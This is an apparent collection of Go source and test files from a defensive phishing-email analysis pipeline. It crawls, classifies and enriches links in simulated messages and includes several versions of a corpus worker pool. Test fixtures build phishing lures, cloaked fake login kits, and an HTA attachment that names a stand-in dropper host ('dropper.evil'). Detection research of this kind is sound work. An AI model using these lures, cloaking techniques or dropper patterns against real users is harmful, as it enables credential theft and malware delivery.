		if rec, err := p.Whois.Lookup(d.Registrable); err == nil {
			info.Whois = &rec
		}
	}
	if cert, ok := p.Net.CertFor(host); ok {
		info.Cert = cert
	}
	total, maxDaily := p.Net.BackgroundQueryVolume(host, 30*24*time.Hour, at)
	info.DNS30DayTotal = total
	info.DNSMaxDaily = maxDaily
	ma.Landing = info
}

// parseHTML statically extracts crawlable URLs from an HTML body.
func parseHTML(html string) []string {
	var out []string
	for _, link := range htmlx.ExtractLinks(htmlx.Parse(html)) {
		if link.Inline {
			continue
		}
		if strings.HasPrefix(link.URL, "http://") || strings.HasPrefix(link.URL, "https://") {
			out = append(out, link.URL)
		}
	}
	return out
}

// appendQuery adds a key=value pair to a URL's query string, inserting it
// before any fragment: "https://h/p#frag" becomes "https://h/p?kv#frag",
// not the corrupt "https://h/p#frag?kv" (a fragment swallows everything
// after the '#', so the server would never have seen the parameter).
func appendQuery(rawURL, kv string) string {
	base, frag, hasFrag := strings.Cut(rawURL, "#")
	sep := "?"
	if strings.Contains(base, "?") {
		sep = "&"
	}
	if hasFrag {
		return base + sep + kv + "#" + frag
	}
	return base + sep + kv
}

func resolveRef(base, ref string) string {
	bu, err := neturl.Parse(base)
	if err != nil {
		return ref
	}
	ru, err := neturl.Parse(ref)
	if err != nil {
		return ref
	}
	return bu.ResolveReference(ru).String()
}

// errIsNetwork reports network-level failures: the visit died before any
// server produced content. classify uses it to split OutcomeError into
// ErrorNetwork (dead infrastructure) and ErrorContent (broken pages).
// ExhaustedError unwraps to its final transient error, so retried-out
// visits classify by what actually failed; a breaker short-circuit counts
// as network-level too (the host was failing at the network layer).
func errIsNetwork(err error) bool {
	return errors.Is(err, webnet.ErrNXDomain) ||
		errors.Is(err, webnet.ErrUnreachable) ||
		errors.Is(err, webnet.ErrTimeout) ||
		errors.Is(err, webnet.ErrReset) ||
		errors.Is(err, resilience.ErrCircuitOpen)
}

// errIsDegraded reports visits the resilience layer gave up on: retries
// exhausted or a request refused by an open circuit breaker.
func errIsDegraded(err error) bool {
	return errors.Is(err, resilience.ErrExhausted) ||
		errors.Is(err, resilience.ErrCircuitOpen)
}
