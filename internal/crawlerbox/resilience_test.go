package crawlerbox

import (
	"bytes"
	"context"
	"sort"
	"testing"
	"time"

	"crawlerbox/internal/dataset"
	"crawlerbox/internal/obs"
	"crawlerbox/internal/phishkit"
	"crawlerbox/internal/resilience"
)

// faultedCorpusDumps runs the example corpus (seed 42, tenth scale — the
// same world the CLIs default to) with the resilience layer armed at the
// default 10% fault rate, and returns the observability exports plus the
// per-outcome message counts.
func faultedCorpusDumps(t *testing.T, workers int) (jsonl, prom []byte, outcomes map[Outcome]int) {
	t.Helper()
	c, err := dataset.Generate(dataset.Config{Seed: 42, Scale: 0.1})
	if err != nil {
		t.Fatal(err)
	}
	pipe := New(c.Net, c.Registry)
	pipe.Resilience = resilience.DefaultPolicy()
	o := obs.New()
	pipe.Obs = o
	c.Net.Metrics = o.Metrics
	brands := make([]string, 0, len(c.BrandURLs))
	for b := range c.BrandURLs {
		brands = append(brands, b)
	}
	sort.Strings(brands)
	for _, b := range brands {
		if err := pipe.AddReference(context.Background(), b, c.BrandURLs[b]); err != nil {
			t.Fatal(err)
		}
	}
	specs := make([]MessageSpec, len(c.Messages))
	for i, m := range c.Messages {
		specs[i] = MessageSpec{Raw: m.Raw, ID: int64(i + 1), At: m.Delivered.Add(2 * time.Hour)}
	}
	outcomes = map[Outcome]int{}
	for i, r := range pipe.AnalyzeCorpus(context.Background(), specs, workers) {
		if r.Err != nil {
			t.Fatalf("workers=%d message %d: %v", workers, i, r.Err)
		}
		outcomes[r.Analysis.Outcome]++
	}
	var tb, mb bytes.Buffer
	if err := o.WriteJSONL(&tb); err != nil {
		t.Fatal(err)
	}
	if err := o.Metrics.WriteProm(&mb); err != nil {
		t.Fatal(err)
	}
	return tb.Bytes(), mb.Bytes(), outcomes
}

// TestFaultedCorpusDeterministicAcrossWorkers is the resilience PR's
// acceptance test: with seeded faults injected at the default 10% rate, the
// corpus run must (a) complete without hard errors, (b) recover at least one
// operation through retries and degrade at least one message to
// OutcomePartial, and (c) produce byte-identical report, trace, and metrics
// output for workers=1 and workers=8 (and stay clean under -race) — fault
// draws, jitter, burst positions, and breaker states are all per-message
// state keyed by the message seed, so no schedule can perturb them.
func TestFaultedCorpusDeterministicAcrossWorkers(t *testing.T) {
	jsonl1, prom1, out1 := faultedCorpusDumps(t, 1)
	jsonl8, prom8, out8 := faultedCorpusDumps(t, 8)

	if !bytes.Equal(jsonl1, jsonl8) {
		t.Errorf("fault-injected trace JSONL diverges between workers=1 (%d bytes) and workers=8 (%d bytes)",
			len(jsonl1), len(jsonl8))
		reportFirstDiffLine(t, jsonl1, jsonl8)
	}
	if !bytes.Equal(prom1, prom8) {
		t.Errorf("fault-injected metrics dump diverges between workers=1 (%d bytes) and workers=8 (%d bytes)",
			len(prom1), len(prom8))
		reportFirstDiffLine(t, prom1, prom8)
	}
	for o, n := range out1 {
		if out8[o] != n {
			t.Errorf("outcome %v: %d messages at workers=1, %d at workers=8", o, n, out8[o])
		}
	}

	if out1[OutcomePartial] == 0 {
		t.Error("no message degraded to partial-evidence under 10% faults")
	}
	prom := string(prom1)
	for _, metric := range []string{
		"crawlerbox_retries_total",
		"crawlerbox_retry_recovered_total",
		"crawlerbox_retry_exhausted_total",
		"crawlerbox_breaker_open_total",
		"webnet_faults_injected_total",
	} {
		if !metricPositive(prom, metric) {
			t.Errorf("metric %s absent or zero in fault-injected run", metric)
		}
	}
	if !bytes.Contains(jsonl1, []byte(`"kind":"retry"`)) {
		t.Error("trace contains no retry spans")
	}
}

// metricPositive reports whether the Prometheus dump has a sample of name
// (any label set) with a value other than a bare zero.
func metricPositive(prom, name string) bool {
	for _, line := range bytes.Split([]byte(prom), []byte("\n")) {
		if !bytes.HasPrefix(line, []byte(name)) {
			continue
		}
		fields := bytes.Fields(line)
		if len(fields) == 2 && !bytes.Equal(fields[1], []byte("0")) {
			return true
		}
	}
	return false
}

// TestAnalyzeMessageMatchesAnalyze pins the API-consolidation contract:
// AnalyzeMessage is a thin shim over Analyze — on a fresh pipeline it must
// produce the same analysis as Analyze with the spec it forwards (the
// pipeline counter's first seed, no explicit analysis time).
func TestAnalyzeMessageMatchesAnalyze(t *testing.T) {
	deploy := func(env *testEnv) []byte {
		site := phishkit.Deploy(env.net, phishkit.SiteConfig{
			Host:  "acmetraveltech-sso.buzz",
			Brand: phishkit.BrandAcmeTravelTech,
		})
		return buildMsg(t, "Your password expires today. Renew: "+site.LandingURL)
	}

	envA := newEnv(t)
	maA, errA := envA.pipe.AnalyzeMessage(deploy(envA))

	envB := newEnv(t)
	maB, errB := envB.pipe.Analyze(context.Background(), MessageSpec{Raw: deploy(envB), ID: 1})

	if errA != nil || errB != nil {
		t.Fatalf("errors: AnalyzeMessage=%v Analyze=%v", errA, errB)
	}
	if maA.Outcome != OutcomeActivePhish {
		t.Fatalf("outcome = %v, want active-phishing", maA.Outcome)
	}
	if maA.Outcome != maB.Outcome {
		t.Errorf("outcome diverges: AnalyzeMessage=%v Analyze=%v", maA.Outcome, maB.Outcome)
	}
	if len(maA.Visits) != len(maB.Visits) {
		t.Errorf("visit count diverges: %d vs %d", len(maA.Visits), len(maB.Visits))
	}
	if maA.Brand != maB.Brand || maA.SpearPhish != maB.SpearPhish {
		t.Errorf("classification diverges: %q/%v vs %q/%v",
			maA.Brand, maA.SpearPhish, maB.Brand, maB.SpearPhish)
	}
}
