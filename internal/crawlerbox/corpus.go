package crawlerbox

import (
	"context"
	"fmt"
	"sync"
	"sync/atomic"
)

// CorpusResult pairs one corpus message with its analysis outcome.
type CorpusResult struct {
	// Index is the message's position in the input slice.
	Index int
	// Analysis is the completed analysis (nil when Err is set).
	Analysis *MessageAnalysis
	// Err is the analysis failure, if any. A cancelled run reports the
	// context error for every message that had not completed.
	Err error
	// Skipped marks a spec that no worker ever started because the run was
	// cancelled first. Err still satisfies errors.Is(err, ctx.Err()), but a
	// skipped spec is distinguishable from one whose analysis was cut off
	// mid-flight.
	Skipped bool
}

// IndexedSpec pairs a message spec with its corpus index so streamed specs
// keep their position without the caller materializing a slice.
type IndexedSpec struct {
	Index int
	Spec  MessageSpec
}

// AnalyzeStream drains specs with a bounded worker pool, handing each
// result to sink as soon as it completes. It is the streaming core of
// AnalyzeCorpus: the channel bounds how many specs are in flight, so peak
// memory is O(workers) no matter how many specs the producer sends.
//
// sink is called concurrently from the pool, but calls that share a worker
// index are serialized — a sink that only touches per-worker state (a
// per-worker census shard, say) needs no locking. Results are bitwise
// deterministic regardless of workers for the same reasons as
// AnalyzeCorpus: per-spec RNG streams keyed by spec.ID and private clock
// forks per analysis.
//
// On cancellation the pool keeps draining the channel (so the producer
// never blocks) and reports each unstarted spec as Skipped with a wrapped
// context error. AnalyzeStream returns once specs is closed and drained.
func (p *Pipeline) AnalyzeStream(ctx context.Context, specs <-chan IndexedSpec, workers int, sink func(worker int, res CorpusResult)) {
	if workers < 1 {
		workers = 1
	}
	var skipped atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for is := range specs {
				if ctx.Err() != nil {
					skipped.Add(1)
					sink(w, CorpusResult{
						Index: is.Index,
						Err: fmt.Errorf("crawlerbox: corpus spec %d not started: %w",
							is.Spec.ID, ctx.Err()),
						Skipped: true,
					})
					continue
				}
				ma, err := p.Analyze(ctx, is.Spec)
				sink(w, CorpusResult{Index: is.Index, Analysis: ma, Err: err})
			}
		}(w)
	}
	wg.Wait()
	if p.Obs != nil && skipped.Load() > 0 {
		p.Obs.Metrics.Add("crawlerbox_corpus_skipped_total", float64(skipped.Load()))
	}
}

// AnalyzeCorpus analyzes a batch of messages with a bounded worker pool and
// returns the results in input order. It is the slice-backed convenience
// wrapper over AnalyzeStream.
//
// Results are bitwise deterministic regardless of workers: each message's
// RNG stream is keyed by its spec.ID (not a shared counter), each analysis
// runs on its own fork of the virtual clock (so latency and event-loop time
// never cross analyses), and enrichment reads only the immutable background
// passive-DNS ledger. workers=1 degenerates to the serial loop; workers<1
// is treated as 1.
func (p *Pipeline) AnalyzeCorpus(ctx context.Context, specs []MessageSpec, workers int) []CorpusResult {
	results := make([]CorpusResult, len(specs))
	if workers > len(specs) {
		workers = len(specs)
	}
	ch := make(chan IndexedSpec, max(workers, 1))
	go func() {
		defer close(ch)
		for i := range specs {
			ch <- IndexedSpec{Index: i, Spec: specs[i]}
		}
	}()
	p.AnalyzeStream(ctx, ch, workers, func(_ int, res CorpusResult) {
		results[res.Index] = res
	})
	return results
}
