package crawlerbox

import (
	"context"
	"fmt"
	"sync"
	"sync/atomic"
)

// CorpusResult pairs one corpus message with its analysis outcome.
type CorpusResult struct {
	// Index is the message's position in the input slice.
	Index int
	// Analysis is the completed analysis (nil when Err is set).
	Analysis *MessageAnalysis
	// Err is the analysis failure, if any. A cancelled run reports the
	// context error for every message that had not completed.
	Err error
	// Skipped marks a spec that no worker ever started because the run was
	// cancelled first. Err still satisfies errors.Is(err, ctx.Err()), but a
	// skipped spec is distinguishable from one whose analysis was cut off
	// mid-flight.
	Skipped bool
}

// AnalyzeCorpus analyzes a batch of messages with a bounded worker pool and
// returns the results in input order.
//
// Results are bitwise deterministic regardless of workers: each message's
// RNG stream is keyed by its spec.ID (not a shared counter), each analysis
// runs on its own fork of the virtual clock (so latency and event-loop time
// never cross analyses), and enrichment reads only the immutable background
// passive-DNS ledger. workers=1 degenerates to the serial loop; workers<1
// is treated as 1.
func (p *Pipeline) AnalyzeCorpus(ctx context.Context, specs []MessageSpec, workers int) []CorpusResult {
	results := make([]CorpusResult, len(specs))
	if workers < 1 {
		workers = 1
	}
	if workers > len(specs) {
		workers = len(specs)
	}
	var next atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(next.Add(1)) - 1
				if i >= len(specs) || ctx.Err() != nil {
					return
				}
				ma, err := p.Analyze(ctx, specs[i])
				results[i] = CorpusResult{Index: i, Analysis: ma, Err: err}
			}
		}()
	}
	wg.Wait()
	skipped := 0
	for i := range results {
		results[i].Index = i
		if results[i].Analysis == nil && results[i].Err == nil {
			// Skipped by cancellation before a worker claimed it. Wrap the
			// context error so errors.Is still matches while the message
			// names the unstarted spec.
			results[i].Err = fmt.Errorf("crawlerbox: corpus spec %d not started: %w", specs[i].ID, ctx.Err())
			results[i].Skipped = true
			skipped++
		}
	}
	if p.Obs != nil && skipped > 0 {
		p.Obs.Metrics.Add("crawlerbox_corpus_skipped_total", float64(skipped))
	}
	return results
}
