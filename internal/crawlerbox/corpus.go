package crawlerbox

import (
	"context"
	"sync"
	"sync/atomic"
)

// CorpusResult pairs one corpus message with its analysis outcome.
type CorpusResult struct {
	// Index is the message's position in the input slice.
	Index int
	// Analysis is the completed analysis (nil when Err is set).
	Analysis *MessageAnalysis
	// Err is the analysis failure, if any. A cancelled run reports the
	// context error for every message that had not completed.
	Err error
}

// AnalyzeCorpus analyzes a batch of messages with a bounded worker pool and
// returns the results in input order.
//
// Results are bitwise deterministic regardless of workers: each message's
// RNG stream is keyed by its spec.ID (not a shared counter), each analysis
// runs on its own fork of the virtual clock (so latency and event-loop time
// never cross analyses), and enrichment reads only the immutable background
// passive-DNS ledger. workers=1 degenerates to the serial loop; workers<1
// is treated as 1.
func (p *Pipeline) AnalyzeCorpus(ctx context.Context, specs []MessageSpec, workers int) []CorpusResult {
	results := make([]CorpusResult, len(specs))
	if workers < 1 {
		workers = 1
	}
	if workers > len(specs) {
		workers = len(specs)
	}
	var next atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(next.Add(1)) - 1
				if i >= len(specs) || ctx.Err() != nil {
					return
				}
				ma, err := p.Analyze(ctx, specs[i])
				results[i] = CorpusResult{Index: i, Analysis: ma, Err: err}
			}
		}()
	}
	wg.Wait()
	for i := range results {
		results[i].Index = i
		if results[i].Analysis == nil && results[i].Err == nil {
			// Skipped by cancellation before a worker claimed it.
			results[i].Err = ctx.Err()
		}
	}
	return results
}
