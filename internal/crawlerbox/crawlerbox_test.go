package crawlerbox

import (
	"archive/zip"
	"bytes"
	"context"
	"strings"
	"testing"
	"time"

	"crawlerbox/internal/botdetect"
	"crawlerbox/internal/imaging"
	"crawlerbox/internal/mime"
	"crawlerbox/internal/pdfx"
	"crawlerbox/internal/phishkit"
	"crawlerbox/internal/qrcode"
	"crawlerbox/internal/webnet"
	"crawlerbox/internal/whois"
)

var _epoch = time.Date(2024, 4, 10, 9, 0, 0, 0, time.UTC)

// testEnv wires a network, registry, deployed brands, and a pipeline with
// references to the five protected login pages.
type testEnv struct {
	net      *webnet.Internet
	registry *whois.Registry
	pipe     *Pipeline
}

func newEnv(t *testing.T) *testEnv {
	t.Helper()
	net := webnet.NewInternet(webnet.NewClock(_epoch))
	registry := whois.NewRegistry()
	pipe := New(net, registry)
	for _, b := range phishkit.StudyBrands {
		url := phishkit.DeployBrandSite(net, b)
		if err := pipe.AddReference(context.Background(), b.Name, url); err != nil {
			t.Fatalf("AddReference(%s): %v", b.Name, err)
		}
	}
	return &testEnv{net: net, registry: registry, pipe: pipe}
}

func buildMsg(t *testing.T, text string) []byte {
	t.Helper()
	return mime.NewBuilder("attacker@phish.ru", "victim@corp.example",
		"Action required", _epoch).Text(text).Build()
}

func TestNoResourceMessage(t *testing.T) {
	env := newEnv(t)
	raw := buildMsg(t, "Hello, your invoice is overdue. Reply urgently to arrange payment.")
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if ma.Outcome != OutcomeNoResource {
		t.Errorf("outcome = %v, want no-web-resource", ma.Outcome)
	}
}

func TestErrorPageMessage(t *testing.T) {
	env := newEnv(t)
	raw := buildMsg(t, "Click https://taken-down.example/login now")
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if ma.Outcome != OutcomeError {
		t.Errorf("outcome = %v, want error-page", ma.Outcome)
	}
}

func TestActiveSpearPhishMessage(t *testing.T) {
	env := newEnv(t)
	site := phishkit.Deploy(env.net, phishkit.SiteConfig{
		Host:  "acmetraveltech-sso.buzz",
		Brand: phishkit.BrandAcmeTravelTech,
	})
	env.registry.Register(whois.Record{
		Domain: "acmetraveltech-sso.buzz", Registrar: "REGRU-RU",
		Registered: _epoch.Add(-30 * 24 * time.Hour), Provenance: whois.ProvenanceFresh,
	})
	env.net.IssueCert("acmetraveltech-sso.buzz", "LetsEncrypt", _epoch.Add(-8*24*time.Hour))

	raw := buildMsg(t, "Your password expires today. Renew: "+site.LandingURL)
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if ma.Outcome != OutcomeActivePhish {
		t.Fatalf("outcome = %v, want active-phishing", ma.Outcome)
	}
	if !ma.SpearPhish || ma.Brand != phishkit.BrandAcmeTravelTech.Name {
		t.Errorf("spear=%v brand=%q", ma.SpearPhish, ma.Brand)
	}
	if ma.Landing == nil {
		t.Fatal("landing enrichment missing")
	}
	if ma.Landing.TLD != ".buzz" {
		t.Errorf("TLD = %q", ma.Landing.TLD)
	}
	if ma.Landing.Whois == nil || ma.Landing.Whois.Registrar != "REGRU-RU" {
		t.Errorf("whois join = %+v", ma.Landing.Whois)
	}
	if ma.Landing.Cert == nil {
		t.Error("certificate join missing")
	}
}

func TestNonTargetedPhishNotSpear(t *testing.T) {
	env := newEnv(t)
	site := phishkit.Deploy(env.net, phishkit.SiteConfig{
		Host:  "office-secure.click",
		Brand: phishkit.BrandMicrosoft,
	})
	raw := buildMsg(t, "New voicemail: "+site.LandingURL)
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if ma.Outcome != OutcomeActivePhish {
		t.Fatalf("outcome = %v", ma.Outcome)
	}
	if ma.SpearPhish {
		t.Error("Microsoft lookalike must not match the five protected brands")
	}
}

func TestQRCodeEmailEndToEnd(t *testing.T) {
	env := newEnv(t)
	site := phishkit.Deploy(env.net, phishkit.SiteConfig{
		Host:  "skybooker-verify.dev",
		Brand: phishkit.BrandSkyBooker,
	})
	m, err := qrcode.Encode(site.LandingURL, qrcode.ECMedium)
	if err != nil {
		t.Fatal(err)
	}
	img, err := qrcode.Render(m, 4, 4)
	if err != nil {
		t.Fatal(err)
	}
	raw := mime.NewBuilder("it@phish.ru", "victim@corp.example", "MFA update", _epoch).
		Text("Scan the attached code to re-enroll in MFA.").
		Inline("image/x-cbi", "qr.cbi", imaging.EncodeCBI(img)).
		Build()
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if ma.Parse.QRCount != 1 {
		t.Errorf("QRCount = %d", ma.Parse.QRCount)
	}
	if ma.Parse.FaultyQR {
		t.Error("clean QR flagged faulty")
	}
	if ma.Outcome != OutcomeActivePhish || !ma.SpearPhish {
		t.Errorf("outcome=%v spear=%v", ma.Outcome, ma.SpearPhish)
	}
}

func TestFaultyQRDetected(t *testing.T) {
	env := newEnv(t)
	site := phishkit.Deploy(env.net, phishkit.SiteConfig{
		Host:  "payroute-login.com",
		Brand: phishkit.BrandPayRoute,
	})
	m, err := qrcode.Encode("xxx "+site.LandingURL, qrcode.ECMedium)
	if err != nil {
		t.Fatal(err)
	}
	img, err := qrcode.Render(m, 4, 4)
	if err != nil {
		t.Fatal(err)
	}
	raw := mime.NewBuilder("billing@phish.ru", "victim@corp.example", "Invoice", _epoch).
		Text("Scan to view your invoice.").
		Inline("image/x-cbi", "qr.cbi", imaging.EncodeCBI(img)).
		Build()
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if !ma.Parse.FaultyQR {
		t.Error("faulty QR payload not flagged")
	}
	if len(ma.Parse.URLs) == 0 || !ma.Parse.URLs[0].LenientOnly {
		t.Errorf("URLs = %+v, want lenient-only extraction", ma.Parse.URLs)
	}
	if ma.Outcome != OutcomeActivePhish {
		t.Errorf("outcome = %v", ma.Outcome)
	}
}

func TestPDFAttachmentWithLink(t *testing.T) {
	env := newEnv(t)
	site := phishkit.Deploy(env.net, phishkit.SiteConfig{
		Host:  "transitgo-pass.tech",
		Brand: phishkit.BrandTransitGo,
	})
	pdf := pdfx.Build(&pdfx.Document{Pages: []pdfx.Page{{
		TextLines: []string{"Your transit pass needs renewal."},
		LinkURIs:  []string{site.LandingURL},
	}}}, true)
	raw := mime.NewBuilder("hr@phish.ru", "victim@corp.example", "Pass renewal", _epoch).
		Text("See the attached document.").
		Attach("application/pdf", "pass.pdf", pdf).
		Build()
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	var viaPDF bool
	for _, u := range ma.Parse.URLs {
		if u.Source == SourcePDFLink {
			viaPDF = true
		}
	}
	if !viaPDF {
		t.Errorf("URLs = %+v, want pdf-link source", ma.Parse.URLs)
	}
	if ma.Outcome != OutcomeActivePhish || !ma.SpearPhish {
		t.Errorf("outcome=%v spear=%v", ma.Outcome, ma.SpearPhish)
	}
}

func TestZIPWithHTADownload(t *testing.T) {
	env := newEnv(t)
	zipBytes := buildZip(t, map[string]string{
		"payload.hta": `<script language="JScript">var u = "https://dropper.evil/stage2.js";</script>`,
	})
	raw := mime.NewBuilder("a@phish.ru", "victim@corp.example", "Parcel info", _epoch).
		Text("Open the attached file.").
		Attach("application/zip", "parcel.zip", zipBytes).
		Build()
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if ma.Outcome != OutcomeDownload {
		t.Errorf("outcome = %v, want file-download", ma.Outcome)
	}
	if len(ma.Parse.HTAURLs) != 1 || !strings.Contains(ma.Parse.HTAURLs[0], "dropper.evil") {
		t.Errorf("HTA URLs = %v", ma.Parse.HTAURLs)
	}
	if len(ma.Visits) != 0 {
		t.Error("HTA content must never be executed or crawled")
	}
}

func TestHTMLAttachmentLocalRedirect(t *testing.T) {
	env := newEnv(t)
	site := phishkit.Deploy(env.net, phishkit.SiteConfig{
		Host:  "farewell-docs.xyz",
		Brand: phishkit.BrandFareWell,
	})
	mediaIP := env.net.AllocateIP(webnet.IPDatacenter)
	env.net.AddDNS("freeimages.example", mediaIP)
	env.net.Serve("freeimages.example", func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte("img")}
	})
	attachment := phishkit.HTMLAttachment(site.LandingURL, "freeimages.example", false)
	raw := mime.NewBuilder("docs@phish.ru", "victim@corp.example", "Contract", _epoch).
		Text("Open the attached contract.").
		Attach("text/html", "contract.html", []byte(attachment)).
		Build()
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if len(ma.Parse.HTMLAttachments) != 1 {
		t.Fatalf("HTML attachments = %d", len(ma.Parse.HTMLAttachments))
	}
	if ma.Outcome != OutcomeActivePhish {
		t.Errorf("outcome = %v, want active-phishing via iframe", ma.Outcome)
	}
}

func TestTurnstileGatedPhishCensus(t *testing.T) {
	env := newEnv(t)
	ts := botdetect.NewTurnstile(env.net, "turnstile.example")
	rc := botdetect.NewReCaptchaV3(env.net, "recaptcha.example")
	site := phishkit.Deploy(env.net, phishkit.SiteConfig{
		Host:      "acme-sso-secure.com",
		Brand:     phishkit.BrandAcmeTravelTech,
		Turnstile: ts,
		ReCaptcha: rc,
	})
	raw := buildMsg(t, "Expiring session: "+site.LandingURL)
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if ma.Outcome != OutcomeActivePhish {
		t.Fatalf("outcome = %v (NotABot must defeat Turnstile)", ma.Outcome)
	}
	if !ma.Cloaks.Turnstile {
		t.Error("Turnstile not in census")
	}
	if !ma.Cloaks.ReCaptcha {
		t.Error("reCAPTCHA not in census")
	}
}

func TestCloakCensusRichSite(t *testing.T) {
	env := newEnv(t)
	// httpbin/ipapi-style services for the exfil layer.
	for _, h := range []string{"httpbin.example", "ipapi.example"} {
		host := h
		ip := env.net.AllocateIP(webnet.IPDatacenter)
		env.net.AddDNS(host, ip)
		env.net.Serve(host, func(req *webnet.Request) *webnet.Response {
			if host == "httpbin.example" {
				return &webnet.Response{Status: 200, Body: []byte(req.ClientIP)}
			}
			return &webnet.Response{Status: 200, Body: []byte(`{"country":"FR"}`)}
		})
	}
	site := phishkit.Deploy(env.net, phishkit.SiteConfig{
		Host:          "fully-loaded.com",
		Brand:         phishkit.BrandSkyBooker,
		ConsoleHijack: true,
		DebuggerTimer: true,
		HueRotateDeg:  4,
		ExfilHTTPBin:  "httpbin.example",
		ExfilIPAPI:    "ipapi.example",
	})
	raw := buildMsg(t, "Account notice: "+site.LandingURL)
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if ma.Outcome != OutcomeActivePhish {
		t.Fatalf("outcome = %v", ma.Outcome)
	}
	c := ma.Cloaks
	if !c.ConsoleHijack || !c.DebuggerTimer || !c.HueRotate || !c.ExfilHTTPBin || !c.ExfilIPAPI {
		t.Errorf("census = %+v", c)
	}
	// Hue-rotate must not have broken spear classification.
	if !ma.SpearPhish {
		t.Error("hue-rotated clone must still classify as spear phish")
	}
}

func TestVictimCheckAndTokenCensus(t *testing.T) {
	env := newEnv(t)
	site := phishkit.Deploy(env.net, phishkit.SiteConfig{
		Host:          "tracked-portal.com",
		Brand:         phishkit.BrandPayRoute,
		VictimCheckC2: "tracked-portal.com",
	})
	site.AddVictim("victim@corp.example")
	// base64("victim@corp.example")
	url := site.LandingURL + "#dmljdGltQGNvcnAuZXhhbXBsZQ=="
	raw := buildMsg(t, "Payment hold: "+url)
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if ma.Outcome != OutcomeActivePhish {
		t.Fatalf("outcome = %v", ma.Outcome)
	}
	if !ma.Cloaks.VictimCheck {
		t.Error("victim-check script not in census")
	}
	if !ma.Cloaks.TokenizedURL {
		t.Error("token-strip probe should flag tokenized cloaking")
	}
}

func TestOTPGateSolvedFromMessage(t *testing.T) {
	env := newEnv(t)
	site := phishkit.Deploy(env.net, phishkit.SiteConfig{
		Host:    "otp-gate.com",
		Brand:   phishkit.BrandAcmeTravelTech,
		OTPCode: "224466",
	})
	raw := buildMsg(t, "Portal: "+site.LandingURL+"\nYour access code 224466 expires in 10 minutes.")
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if !ma.Cloaks.OTPPrompt {
		t.Error("OTP prompt not in census")
	}
	if ma.Outcome != OutcomeActivePhish {
		t.Errorf("outcome = %v (pipeline should submit the recovered code)", ma.Outcome)
	}
}

func TestMathChallengeSolved(t *testing.T) {
	env := newEnv(t)
	site := phishkit.Deploy(env.net, phishkit.SiteConfig{
		Host:          "math-gate.com",
		Brand:         phishkit.BrandFareWell,
		MathChallenge: true,
	})
	raw := buildMsg(t, "Document: "+site.LandingURL)
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if !ma.Cloaks.MathChallenge {
		t.Error("math challenge not in census")
	}
	if ma.Outcome != OutcomeActivePhish {
		t.Errorf("outcome = %v (pipeline should solve the equation)", ma.Outcome)
	}
}

func TestHotLoadedAssetsReferral(t *testing.T) {
	env := newEnv(t)
	site := phishkit.Deploy(env.net, phishkit.SiteConfig{
		Host:               "acme-hotload.com",
		Brand:              phishkit.BrandAcmeTravelTech,
		HotLoadBrandAssets: true,
	})
	raw := buildMsg(t, "Update: "+site.LandingURL)
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if ma.Outcome != OutcomeActivePhish {
		t.Fatalf("outcome = %v", ma.Outcome)
	}
	var sawHotLoad bool
	for _, v := range ma.Visits {
		if v.Result == nil {
			continue
		}
		for _, r := range v.Result.Requests {
			if strings.Contains(r.URL, phishkit.BrandAcmeTravelTech.Domain) {
				sawHotLoad = true
			}
		}
	}
	if !sawHotLoad {
		t.Error("hot-loaded brand asset request not recorded")
	}
}

func TestNoisePaddingDetected(t *testing.T) {
	env := newEnv(t)
	body := "Click https://gone.example/x now" + strings.Repeat("\n", 60) +
		"qwe rty asd fgh jkl zxc vbn mnb"
	raw := buildMsg(t, body)
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if !ma.Parse.NoisePadded {
		t.Error("noise padding not detected")
	}
}

func TestInteractionRequiredOutcome(t *testing.T) {
	env := newEnv(t)
	ip := env.net.AllocateIP(webnet.IPDatacenter)
	env.net.AddDNS("drive-share.example", ip)
	env.net.Serve("drive-share.example", func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte(
			`<html><body><p>A colleague shared a document with you.</p>
			<button>Open in viewer</button></body></html>`)}
	})
	raw := buildMsg(t, "Shared: https://drive-share.example/d/abc")
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if ma.Outcome != OutcomeInteraction {
		t.Errorf("outcome = %v, want interaction-required", ma.Outcome)
	}
}

func TestDNSVolumeEnrichment(t *testing.T) {
	env := newEnv(t)
	site := phishkit.Deploy(env.net, phishkit.SiteConfig{
		Host:  "lowvolume-target.com",
		Brand: phishkit.BrandTransitGo,
	})
	env.net.RecordBackgroundQueries("lowvolume-target.com", 43, 30*24*time.Hour, env.net.Clock.Now())
	raw := buildMsg(t, "Notice: "+site.LandingURL)
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
